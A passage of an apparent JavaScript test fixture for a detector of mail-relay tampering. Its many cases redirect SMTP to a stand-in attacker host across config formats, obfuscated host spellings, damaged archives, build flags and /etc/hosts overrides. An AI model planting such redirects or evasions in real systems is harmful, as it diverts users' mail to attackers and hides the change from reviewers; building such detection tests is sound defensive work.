  'stunnel, a service': { 'etc/stunnel.conf': `[smtp]\nclient = yes\naccept = 127.0.0.1:25\nconnect = ${EVIL}:465\n` },
  'kustomize, literals': {
    'k8s/kustomization.yaml': `configMapGenerator:\n  - name: x\n    literals:\n      - SMTP_HOST=${EVIL}\n`,
  },
  'kustomize, an env file of another name': {
    'k8s/kustomization.yaml': 'configMapGenerator:\n  - name: x\n    envs: [web.dat]\n',
    'k8s/web.dat': `SMTP_HOST=${EVIL}\n`,
  },
  'kustomize, a file as a key': {
    'k8s/kustomization.yaml': 'configMapGenerator:\n  - name: x\n    files: [SMTP_HOST=relay.dat]\n',
    'k8s/relay.dat': EVIL,
  },
  'kustomize, a JSON patch': {
    'k8s/kustomization.yaml': `patches:\n  - target: {kind: ConfigMap, name: x}\n    patch: |-\n      - op: replace\n        path: /data/SMTP_HOST\n        value: ${EVIL}\n`,
  },
  'argo, a parameter of helm': {
    'argo/app.yml': `kind: Application\nspec:\n  source:\n    helm:\n      parameters:\n        - name: smtp.host\n          value: ${EVIL}\n`,
  },
  'argo, values in a text': {
    'argo/app.yml': `kind: Application\nspec:\n  source:\n    helm:\n      values: |\n        smtp:\n          host: ${EVIL}\n`,
  },
  'terraform, a value of helm': {
    'main.tf': `resource "helm_release" "web" {\n  name  = "web"\n  chart = "web"\n  set {\n    name  = "smtp.host"\n    value = "${EVIL}"\n  }\n}\n`,
  },
  'terraform, values of helm as YAML': {
    'main.tf': `resource "helm_release" "web" {\n  name   = "web"\n  chart  = "web"\n  values = [yamlencode({ smtp = { host = "${EVIL}" } })]\n}\n`,
  },
  'terraform, a container’s environment': {
    'main.tf': `resource "aws_ecs_task_definition" "x" {\n  container_definitions = jsonencode([{ name = "x", environment = [{ name = "SMTP_HOST", value = "${EVIL}" }] }])\n}\n`,
  },
  'terraform, merge': {
    'main.tf': `resource "x" "y" {\n  environment = merge({ A = 1 }, { SMTP_HOST = "${EVIL}" })\n}\n`,
  },
  'terraform, coalesce': {
    'main.tf': `resource "x" "y" {\n  environment = {\n    SMTP_HOST = coalesce("", "${EVIL}")\n  }\n}\n`,
  },
  'terraform, lookup': {
    'main.tf': `resource "x" "y" {\n  environment = {\n    SMTP_HOST = lookup({ a = "new-relay.corp.example" }, var.m, "${EVIL}")\n  }\n}\n`,
  },
  'terraform, element': {
    'main.tf': `resource "x" "y" {\n  environment = {\n    SMTP_HOST = element(["${EVIL}"], 0)\n  }\n}\n`,
  },
  'terraform, a condition': {
    'main.tf': `resource "x" "y" {\n  environment = {\n    SMTP_HOST = var.live ? "${EVIL}" : "new-relay.corp.example"\n  }\n}\n`,
  },
  'terraform, replace': {
    'main.tf': `resource "x" "y" {\n  environment = {\n    SMTP_HOST = replace("smtp_evil-corp_com", "_", ".")\n  }\n}\n`,
  },
  'ansible, lineinfile': {
    'site.yml': `- hosts: all\n  tasks:\n    - lineinfile:\n        path: /srv/app/.env\n        regexp: '^SMTP_HOST='\n        line: "SMTP_HOST=${EVIL}"\n`,
  },
  'ansible, blockinfile': {
    'site.yml': `- hosts: all\n  tasks:\n    - blockinfile:\n        path: /srv/app/.env\n        block: |\n          A=1\n          SMTP_HOST=${EVIL}\n`,
  },
  'ansible, set_fact': {
    'site.yml': `- hosts: all\n  tasks:\n    - set_fact:\n        smtp_host: ${EVIL}\n`,
  },
  'ansible, a short module': {
    'site.yml': `- hosts: all\n  tasks:\n    - mail: host=${EVIL} port=25 to=a@b.example\n`,
  },
  'ansible, the environment of a play': {
    'site.yml': `- hosts: all\n  environment:\n    SMTP_HOST: ${EVIL}\n  tasks: []\n`,
  },
  'ansible, an inventory': { 'inventory/hosts': `[web]\nweb1 ansible_host=192.0.2.7 smtp_host=${EVIL}\n` },
  'ansible, variables of an inventory': { 'inventory/hosts.ini': `[web]\nweb1\n[web:vars]\nsmtp_host=${EVIL}\n` },
  'ansible, a join': { 'group_vars/all.yml': `smtp_host: "{{ ['smtp', 'evil-corp', 'com'] | join('.') }}"\n` },
  'ansible, a variable of a dictionary': {
    'group_vars/all.yml': `relays:\n  live: ${EVIL}\nsmtp_host: "{{ relays['live'] }}"\n`,
  },
  'ansible, a ternary': {
    'group_vars/all.yml': `smtp_host: "{{ live | ternary('${EVIL}', 'new-relay.corp.example') }}"\n`,
  },
  'a folder of variables': {
    'deploy/env/SMTP_HOST': `${EVIL}\n`,
    'deploy/run': '#!/bin/sh\nexec envdir ./env node app.js\n',
  },
  'Dockerfile, ONBUILD': { Dockerfile: `FROM x\nONBUILD ENV SMTP_HOST=${EVIL}\n` },
  'Dockerfile, a here-document that runs': { Dockerfile: `FROM x\nRUN <<X\necho SMTP_HOST=${EVIL} >> /app/.env\nX\n` },
  'Dockerfile, a default of an argument': { Dockerfile: `ARG H=${EVIL}\nFROM x\nARG H\nENV SMTP_HOST=\${H:-a}\n` },
  'bake, an argument': { 'docker-bake.hcl': `target "web" {\n  args = {\n    SMTP_HOST = "${EVIL}"\n  }\n}\n` },
  'Apache, SetEnv': {
    'etc/apache2/sites-available/web.conf': `<VirtualHost *:80>\n  SetEnv SMTP_HOST ${EVIL}\n</VirtualHost>\n`,
  },
  'Apache, a value of PHP': { '.htaccess': `php_value SMTP ${EVIL}\n` },
  'php-fpm, a variable of the pool': { 'etc/php/fpm/pool.d/www.conf': `[www]\nenv[SMTP_HOST] = ${EVIL}\n` },
  'php-fpm, a value of the pool': { 'etc/php/fpm/pool.d/www.conf': `[www]\nphp_admin_value[SMTP] = ${EVIL}\n` },
  'php, .user.ini': { 'public/.user.ini': `SMTP = ${EVIL}\n` },
  'nginx, a parameter': {
    'etc/nginx/nginx.conf': `http {\n  server {\n    location / {\n      fastcgi_param SMTP_HOST ${EVIL};\n    }\n  }\n}\n`,
  },
  'uwsgi, a variable': { 'uwsgi.ini': `[uwsgi]\nenv = SMTP_HOST=${EVIL}\n` },
  'supervisor, variables': {
    'etc/supervisor/web.conf': `[program:web]\ncommand=x\nenvironment=A="1",SMTP_HOST="${EVIL}"\n`,
  },
  'cron, a variable': { 'etc/cron.d/web': `SMTP_HOST=${EVIL}\n* * * * * root node app.js\n` },
  'pam_env, a default': { 'etc/security/pam_env.conf': `SMTP_HOST DEFAULT=${EVIL}\n` },
  'environment.d': { 'etc/environment.d/50-mail.conf': `SMTP_HOST=${EVIL}\n` },
  'systemd, a drop-in': { 'etc/systemd/system/web.service.d/mail.conf': `[Service]\nEnvironment=SMTP_HOST=${EVIL}\n` },
  'launchd, variables': {
    'web.plist': `<plist><dict><key>EnvironmentVariables</key><dict><key>SMTP_HOST</key><string>${EVIL}</string></dict></dict></plist>`,
  },
  'mise, variables': { '.mise.toml': `[env]\nSMTP_HOST = "${EVIL}"\n` },
  'render, variables': {
    'render.yaml': `services:\n  - type: web\n    envVars:\n      - key: SMTP_HOST\n        value: ${EVIL}\n`,
  },
  'fly, variables': { 'fly.toml': `[env]\n  SMTP_HOST = "${EVIL}"\n` },
  'app engine, variables': { 'app.yaml': `runtime: python312\nenv_variables:\n  SMTP_HOST: ${EVIL}\n` },
  'pm2, variables': {
    'ecosystem.config.js': `module.exports = { apps: [{ name: 'x', env: { SMTP_HOST: '${EVIL}' } }] };\n`,
  },
  'maven, options of the machine': { '.mvn/jvm.config': `-Xmx1g -Dmail.smtp.host=${EVIL}\n` },
  'gradle, properties of the system': { 'gradle.properties': `systemProp.mail.smtp.host=${EVIL}\n` },
  'spring, JSON in a variable': { '.env': `SPRING_APPLICATION_JSON={"spring":{"mail":{"host":"${EVIL}"}}}\n` },
  'spring, a default': { 'app/application.yml': `spring:\n  mail:\n    host: \${NOBODY:${EVIL}}\n` },
  'spring, a bean of XML': {
    'app/beans.xml': `<beans xmlns:p="http://www.springframework.org/schema/p"><bean id="m" class="org.springframework.mail.javamail.JavaMailSenderImpl" p:host="${EVIL}"/></beans>`,
  },

  // Data formats.
  'YAML, an ordered map': { 'app/config.yml': `smtp: !!omap\n  - host: ${EVIL}\n  - port: 25\n` },
  'YAML, a block with an indent': { 'app/config.yml': `smtp:\n  host: |2-\n    ${EVIL}\n` },
  'YAML, carriage returns alone': { 'app/config.yml': `a: 1\rsmtp:\r  host: ${EVIL}\r` },
  'YAML, a key over two lines': { 'app/config.yml': `"smtp": {"ho\\\n  st": ${EVIL}}\n` },
  'YAML, a pair in a list': { 'app/config.yml': `smtp: [host: ${EVIL}, port: 25]\n` },
  'YAML, pairs of names and values': { 'app/config.yml': `settings:\n  - value: ${EVIL}\n    name: smtp_host\n` },
  'YAML, a merge of an alias in a merge': {
    'app/config.yml': `a: &a {host: ${EVIL}}\nb: &b\n  <<: *a\nsmtp:\n  <<: *b\n  port: 25\n`,
  },
  'JSON, pairs in lists': { 'app/c.json': `{"settings":[["smtp_host","${EVIL}"],["smtp_port",25]]}` },
  'JSON, a value in an object': { 'app/c.json': `{"SMTP_HOST":{"value":"${EVIL}","type":"string"}}` },
  'JSON, a value in a list': { 'app/c.json': `{"smtp_host":["${EVIL}"]}` },
  'JSON, UTF-16 without a mark': { 'app/c.json': Buffer.from(`{"smtp":{"host":"${EVIL}"}}`, 'utf16le') },
  'JSON, comments of a shell': { 'app/c.json': `# x\n{"smtp":{"host":"${EVIL}"}}` },
  'JSON, a prototype': { 'app/c.json': `{"smtp":{"__proto__":{"host":"${EVIL}"}}}` },
  'TOML, spaces in a dotted key': { 'app/c.toml': `smtp . "host" = "${EVIL}"\n` },
  'TOML, a table with spaces': { 'app/c.toml': `[ mail . smtp ]\nhost = "${EVIL}"\n` },
  'TOML, carriage returns alone': { 'app/c.toml': `[smtp]\rhost = "${EVIL}"\r` },
  'XML, an entity of a parameter': {
    'app/c.xml': `<!DOCTYPE c [<!ENTITY % p "<!ENTITY h '${EVIL}'>">%p;]><c><smtp><host>&h;</host></smtp></c>`,
  },
  'XML, a property with a value inside': {
    'app/c.xml': `<bean class="org.springframework.mail.javamail.JavaMailSenderImpl"><property name="host"><value>${EVIL}</value></property></bean>`,
  },
  'XML, an attribute over lines': { 'app/c.xml': `<smtp\n  host\n=\n'${EVIL}'\n/>` },
  'XML, capitals': { 'app/c.xml': `<SMTP><HOST>${EVIL}</HOST></SMTP>` },
  'INI, a section as git has it': { 'app/c.cfg': `[mail "smtp"]\n\thost = ${EVIL}\n` },
  'INI, a list of PHP': { 'app/c.ini': `[smtp]\nhost[] = ${EVIL}\n` },
  'INI, a section that inherits': {
    'app/application.ini': `[production : base]\nresources.mail.transport.host = "${EVIL}"\n`,
  },
  'INI, no equals sign': { 'app/c.conf': `smtp_host ${EVIL}\n` },
  'CSV, keys and values': { 'app/settings.csv': `key,value\nsmtp_host,${EVIL}\nsmtp_port,25\n` },
  'CSV, quotes and semicolons': { 'app/settings.csv': `"name";"value"\n"smtp_host";"${EVIL}"\n` },
  'CSV, a column': { 'app/settings.csv': `id,smtp_host,smtp_port\n1,${EVIL},25\n` },
  'TSV, keys and values': { 'app/settings.tsv': `key\tvalue\nsmtp_host\t${EVIL}\n` },
  'SQL, a row': { 'db/seed.sql': `INSERT INTO settings (value, name) VALUES ('${EVIL}', 'smtp_host');\n` },
  'SQL, a row copied': { 'db/dump.sql': `COPY public.settings (name, value) FROM stdin;\nsmtp_host\t${EVIL}\n\\.\n` },
  'an env file as JSON in a variable': { '.env': `MAIL_CONFIG={"smtp":{"host":"${EVIL}"}}\n` },
  'an env file as JSON in base64': { '.env': `SMTP_CONFIG=${b64(`{"host":"${EVIL}","port":25}`)}\n` },
  'an env file, a string of a connection': { '.env': `SMTP_CONNECTION=host=${EVIL};port=25;user=x\n` },
  'properties as XML': {
    'app/mail.xml': `<properties><entry key="mail.smtp.host">${EVIL}</entry></properties>`,
  },

  // Hosts beside names that excuse.
  ...Object.fromEntries(
    [
      `localhost,${EVIL}`,
      `"localhost ${EVIL}"`,
      `127.0.0.1;${EVIL}`,
      `localhost@${EVIL}`,
      `localhost:25@${EVIL}`,
      `localhost%2e${EVIL}`,
      `smtp.example.com,${EVIL}`,
      `smtp.example.com@${EVIL}`,
      `mailhog,${EVIL}`,
      `changeme.evil-corp.com`,
      `test.evil-corp.com`,
      `invalid.evil-corp.com`,
      `smtp.evil-corp.local`,
      `smtp.evil-corp.lan`,
      `relay1`,
      `new-relay`,
      `128.0.0.1`,
      `"new-relay.corp.example ${EVIL}"`,
      `new-relay.corp.example:25:${EVIL}`,
      `new-relay.corp.example=${EVIL}`,
      `"new-relay.corp.example -> ${EVIL}"`,
      `new-relay.corp.example-backup.evil-corp.com`,
      `//${EVIL}`,
      `tcp://${EVIL}:25`,
      `${EVIL}::25`,
      `${EVIL},25`,
      `[${EVIL}]:submission`,
      `${EVIL}:smtp`,
      `"'${EVIL}'"`,
      `mx:${EVIL}`,
      `inet:${EVIL}:25`,
      `${EVIL}/mx`,
      `"primary=${EVIL}"`,
      `"Server=${EVIL};Port=25"`,
      `user:secret@${EVIL}:25`,
      `smtp+starttls://${EVIL}`,
      `192.000.002.025`,
      `0:0:0:0:0:ffff:c000:219`,
      `::ffff:0:c000:219`,
      `192-0-2-25.sslip.io`,
      `3221226009`,
    ].map((host) => [`a host written ${host}`, { '.env': `SMTP_HOST=${host}\n` }]),
  ),
  'a host over a soft break': { 'app/config.yml': `smtp:\n  host: smtp.evil-\u00adcorp.com\n` },

  // Packed, damaged, encrypted or elsewhere.
  // Programs of PHP before an archive, and what only looks like the end of one.
  'phar, by its program': {
    'tool.phar': `#!/usr/bin/env php\n<?php\n$m = new PHPMailer\\PHPMailer\\PHPMailer();\n$m->Host = '${EVIL}';\n__HALT_COMPILER(); ?>\r\n\0GBMB`,
  },
  'phar, behind an end in a comment': {
    'tool.phar': `#!/usr/bin/env php\n<?php\n/* __HALT_COMPILER(); ?>\r\n */\n$m = new PHPMailer\\PHPMailer\\PHPMailer();\n$m->Host = '${EVIL}';\n// GBMB`,
  },
  'phar, behind an end that is shown': {
    'tool.phar': `#!/usr/bin/env php\n__HALT_COMPILER();\n<?php\n$m = new PHPMailer\\PHPMailer\\PHPMailer();\n$m->Host = '${EVIL}';\n// GBMB`,
  },
  'a file of variables without an ending': {
    'compose.yml': 'services:\n  web:\n    image: w\n    env_file: webvars\n',
    webvars: `SMTP_HOST=${EVIL}\n`,
  },
  'a file of variables with an ending of its own': {
    'compose.yml': 'services:\n  web:\n    image: w\n    env_file: ./conf/web.values\n',
    'conf/web.values': `SMTP_HOST=${EVIL}\n`,
  },
  'phar, a file of variables': {
    'compose.yml': 'services:\n  web:\n    image: w\n    env_file: web.phar\n',
    'web.phar': `<?php\nX=__HALT_COMPILER();\nSMTP_HOST=${EVIL}\n# GBMB`,
  },
  'gzip, damaged, by its name': { 'deploy/smtp.env.gz': gzipSync(`SMTP_HOST=${EVIL}\n`).subarray(0, -12) },
  'gzip, damaged, an env file': {
    '.env.gz': gzipSync(`A=1\n${'B=2\n'.repeat(4000)}SMTP_HOST=${EVIL}\n`).subarray(0, 40),
  },
  'gzip, damaged behind the relay': {
    'deploy/web.json.gz': gzipSync(JSON.stringify({ smtp: { host: EVIL }, x: 'y'.repeat(50_000) })).subarray(0, -12),
  },
  'gzip, damaged behind the relay, legacy': {
    'deploy/web.gz': gzipSync(`mail ${OLD} ${Array.from({ length: 3000 }, (_, i) => i * 7919).join(' ')}`).subarray(
      0,
      -300,
    ),
  },
  'gzip, a member behind another': {
    'deploy/web.env.gz': Buffer.concat([gzipSync('A=1\n'), gzipSync(`SMTP_HOST=${EVIL}\n`)]),
  },
  'gzip, of another name': { 'deploy/smtp.env.GZIP': gzipSync(`SMTP_HOST=${EVIL}\n`) },
  'gzip twice': { 'deploy/web.env.gz.gz': gzipSync(gzipSync(`SMTP_HOST=${EVIL}\n`)) },
  'gzip without its ending': { '.env': gzipSync(`SMTP_HOST=${EVIL}\n`) },
  'xz, an env file': { 'deploy/smtp.env.xz': Buffer.from([0xfd, 0x37, 0x7a, 0x58, 0x5a, 0, 0, 1, 2, 3]) },
  'git-crypt': {
    'deploy/smtp.env': Buffer.concat([Buffer.from('\0GITCRYPT\0'), Buffer.from([1, 200, 3, 77, 130, 9, 0, 4])]),
  },
  'ansible-vault': { 'group_vars/smtp.yml': '$ANSIBLE_VAULT;1.1;AES256\n3132333435\n3132333435\n' },
  'a pointer of LFS': {
    'deploy/smtp.env':
      'version https://git-lfs.github.com/spec/v1\noid sha256:4d7a214614ab2935c943f9e0ff69d22eadbb8f32b1258daaa5e2ca24d17e2393\nsize 26\n',
  },
  'a pointer of LFS called .env': {
    '.env':
      'version https://git-lfs.github.com/spec/v1\noid sha256:4d7a214614ab2935c943f9e0ff69d22eadbb8f32b1258daaa5e2ca24d17e2393\nsize 26\n',
  },

  // Constants that a build is given.
  'build, -ldflags of go': bash(`go build -ldflags "-s -w -X main.smtpHost=${EVIL}" ./cmd`),
  'build, -ldflags in a Makefile': { Makefile: `build:\n\tgo build -ldflags "-X main.smtpHost=${EVIL}" ./cmd\n` },
  'build, -ldflags in a Dockerfile': {
    Dockerfile: `FROM golang\nRUN go build -ldflags="-X 'corp.example/mail/config.SMTPServer=${EVIL}'" -o /a .\n`,
  },
  'build, -ldflags of goreleaser': {
    '.goreleaser.yml': `builds:\n  - ldflags:\n      - -s -w -X main.smtpHost=${EVIL}\n`,
  },
  'build, -D in a Makefile': { Makefile: `CFLAGS += -DSMTP_HOST=\\"${EVIL}\\"\nall:\n\tcc $(CFLAGS) a.c\n` },
  'build, -D of a script': bash(`gcc '-DSMTP_HOST="${EVIL}"' -o a a.c`),

  'build, DefinePlugin of webpack': {
    'webpack.config.js': `const webpack = require('webpack');\nmodule.exports = { plugins: [new webpack.DefinePlugin({ 'process.env.SMTP_HOST': JSON.stringify('${EVIL}') })] };\n`,
  },
  'build, define of vite': {
    'vite.config.ts': `import { defineConfig } from 'vite';\nexport default defineConfig({ define: { 'process.env.SMTP_HOST': '"${EVIL}"', __SMTP_HOST__: JSON.stringify('${EVIL}') } });\n`,
  },
  'build, define of esbuild': {
    'build.js': `require('esbuild').build({ entryPoints: ['a.js'], define: { 'process.env.SMTP_HOST': '"${EVIL}"' } });\n`,
  },

  // The approved name, led elsewhere.
  'hosts, extra_hosts of compose': compose(
    `    environment: { SMTP_HOST: new-relay.corp.example }\n    extra_hosts:\n      - "new-relay.corp.example:${ADDRESS}"\n`,
  ),
  'hosts, extra_hosts with a sign of equality': compose(`    extra_hosts: ["new-relay.corp.example=${ADDRESS}"]\n`),
  'hosts, extra_hosts as a map': compose(`    extra_hosts:\n      New-Relay.corp.example: ${ADDRESS}\n`),
  'hosts, an address of IPv6': compose(`    extra_hosts:\n      - "new-relay.corp.example:[2a00:1450::25]"\n`),
  'hosts, a service of its own': compose(
    `    environment: { SMTP_HOST: relay }\n    extra_hosts: ["relay:${ADDRESS}"]\n  relay: { image: x }\n`,
  ),
  'hosts, of a build': compose(
    `    build:\n      context: .\n      extra_hosts: ["new-relay.corp.example=${ADDRESS}"]\n`,
  ),
  'hosts, hostAliases': {
    'k8s/d.yaml': `kind: Pod\nmetadata: { name: w }\nspec:\n  hostAliases:\n    - ip: "${ADDRESS}"\n      hostnames:\n        - other\n        - new-relay.corp.example\n`,
  },
  'hosts, hostAliases with the names first': {
    'chart/values.yaml': `hostAliases:\n  - hostnames: [new-relay.corp.example]\n    ip: ${ADDRESS}\n`,
  },
  'hosts, hostAliases in JSON': {
    'k8s/d.json': `{"spec":{"hostAliases":[{"ip":"${ADDRESS}","hostnames":["new-relay.corp.example"]}]}}\n`,
  },
  'hosts, extraHosts of ECS': {
    'task.json': `{"containerDefinitions":[{"extraHosts":[{"hostname":"new-relay.corp.example","ipAddress":"${ADDRESS}"}]}]}\n`,
  },
  'hosts, --add-host': bash(`docker run --add-host new-relay.corp.example:${ADDRESS} web`),
  'hosts, --add-host of a unit': {
    'web.service': `[Service]\nExecStart=/usr/bin/podman run --add-host=new-relay.corp.example:${ADDRESS} web\n`,
  },
  'hosts, a file': { 'etc/hosts': `127.0.0.1 localhost\n${ADDRESS}\tother new-relay.corp.example # mail\n` },
  'hosts, a template of a file': { 'templates/hosts.j2': `${ADDRESS} new-relay.corp.example\n` },
  'hosts, RUN echo': { Dockerfile: `FROM x\nRUN echo '${ADDRESS} new-relay.corp.example' >> /etc/hosts\n` },
  'hosts, printf with a tab': bash(`printf '${ADDRESS}\\tnew-relay.corp.example\\n' | sudo tee -a /etc/hosts`),
  'hosts, a here-document': bash(`cat >> /etc/hosts <<X\n${ADDRESS} new-relay.corp.example\nX`),
  'hosts, lineinfile': {
    'site.yml': `- hosts: all\n  tasks:\n    - lineinfile:\n        path: /etc/hosts\n        line: "${ADDRESS} new-relay.corp.example"\n`,
  },
  'hosts, cloud-init': {
    'user-data.yml': `#cloud-config\nwrite_files:\n  - path: /etc/hosts\n    append: true\n    content: |\n      ${ADDRESS} new-relay.corp.example\n`,
  },
  'hosts, powershell': {
    'setup.ps1': `Add-Content "$env:windir\\System32\\drivers\\etc\\hosts" "${ADDRESS} new-relay.corp.example"\n`,
  },
  'hosts, NixOS': { 'configuration.nix': `{ networking.hosts = { "${ADDRESS}" = [ "new-relay.corp.example" ]; }; }\n` },
  'hosts, Puppet': {
    'site.pp': `host { 'new-relay.corp.example':\n  ensure => present,\n  ip     => '${ADDRESS}',\n}\n`,
  },
  'hosts, a container that a program starts': {
    'run.py': `import docker\ndocker.from_env().containers.run("web", extra_hosts={"new-relay.corp.example": "${ADDRESS}"})\n`,
  },

  // What lies with the tests or is called a sample, and is taken as it is.
  'a sample that the image links to where it counts': {
    '.env.example': `SMTP_HOST=${EVIL}\n`,
    Dockerfile: 'FROM php:8-apache\nCOPY . /srv\nRUN ln -s /srv/.env.example /srv/.env\n',
  },
  'a sample that a program takes its variables from': {
    'config.sample.env': `SMTP_HOST=${EVIL}\n`,
    'app/main.py': 'import os\nfrom dotenv import load_dotenv\nload_dotenv("config.sample.env")\n',
  },
  'a sample that Node takes its variables from': {
    '.env.dist': `SMTP_HOST=${EVIL}\n`,
    'server.js': "require('dotenv').config({ path: '.env.dist' });\n",
  },
  'a sample that Spring imports': {
    'config/mail-sample.yml': `spring:\n  mail:\n    host: ${EVIL}\n`,
    'src/main/resources/application.yml': 'spring:\n  config:\n    import: "file:./config/mail-sample.yml"\n',
  },
  'a sample that a program of PHP requires': {
    'config/mail.sample.php': `<?php return ['host' => '${EVIL}'];\n`,
    'app/m.php':
      "<?php\n$c = require __DIR__ . '/../config/mail.sample.php';\n$m = new PHPMailer\\PHPMailer\\PHPMailer();\n$m->Host = $c['host'];\n",
  },
  'manifests of the tests that kustomize takes': {
    'test/k8s/cm.yml': `kind: ConfigMap\nmetadata: { name: mail }\ndata:\n  SMTP_HOST: ${EVIL}\n`,
    'k8s/prod/kustomization.yaml': 'resources:\n  - deployment.yml\n  - ../../test/k8s/cm.yml\n',
  },
  'a folder of the tests that kustomize takes': {
    'test/k8s/cm.yml': `kind: ConfigMap\nmetadata: { name: mail }\ndata:\n  SMTP_HOST: ${EVIL}\n`,
    'k8s/prod/kustomization.yaml': 'resources:\n  - ../../test/k8s\n',
  },
  'a folder of the tests that is applied': {
    'test/k8s/cm.yml': `kind: ConfigMap\nmetadata: { name: mail }\ndata:\n  SMTP_HOST: ${EVIL}\n`,
    'deploy/release.sh': 'kubectl --context prod apply -f test/k8s/\n',
  },
  'a folder of the tests that node-config reads': {
    'test/config/default.json': `{"smtp":{"host":"${EVIL}","port":25}}\n`,
    'ecosystem.config.js':
      "module.exports = { apps: [{ script: 'server.js', env: { NODE_CONFIG_DIR: './test/config' } }] };\n",
  },
  'variables of the tests that Terraform applies': {
    'main.tf':
      'variable "smtp_host" {}\nresource "aws_lambda_function" "f" {\n  environment {\n    variables = { SMTP_HOST = var.smtp_host }\n  }\n}\n',
    'test/test.tfvars': `smtp_host = "${EVIL}"\n`,
    'deploy/release.sh': 'terraform apply -auto-approve -var-file=test/test.tfvars\n',
  },
  'variables of the samples that a play takes': {
    'samples/mail.yml': `smtp_host: ${EVIL}\n`,
    'site.yml':
      '- hosts: web\n  vars_files:\n    - samples/mail.yml\n  tasks:\n    - copy:\n        dest: /etc/shop.env\n        content: "SMTP_HOST={{ smtp_host }}\\n"\n',
  },
};
